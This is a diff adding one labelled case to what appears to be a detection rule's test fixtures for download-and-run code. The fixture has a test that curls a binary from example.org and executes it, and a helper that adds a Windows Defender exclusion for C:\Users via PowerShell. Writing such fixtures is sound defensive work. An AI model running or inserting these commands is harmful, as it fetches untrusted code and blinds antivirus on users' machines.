@@ -422,6 +422,24 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/tools.py", 3, "call",
     ),
+    # A test that fetches and runs, beside a file that hides from defences: tests do that; worth a look.
+    "download-and-run/in-a-test-even-in-bad-company": Positive(
+        "download-and-run", M,
+        W({
+            "pkg/tests/test_tool.py": """
+            import subprocess
+            def test_fetch_tool():
+                subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
+                subprocess.run(["/tmp/tool", "--init"])
+            """,
+            "pkg/quiet.py": """
+            import subprocess
+            def quiet():
+                subprocess.run(["powershell", "Add-MpPreference", "-ExclusionPath", "C:\\\\Users"])
+            """,
+        }),
+        "pkg/tests/test_tool.py", 3, "call",
+    ),
     # The same function in a release that also hides from defences: a dropper waiting to be called.
     "download-and-run/curl-then-run-with-evasion-elsewhere": Positive(
         "download-and-run", H,
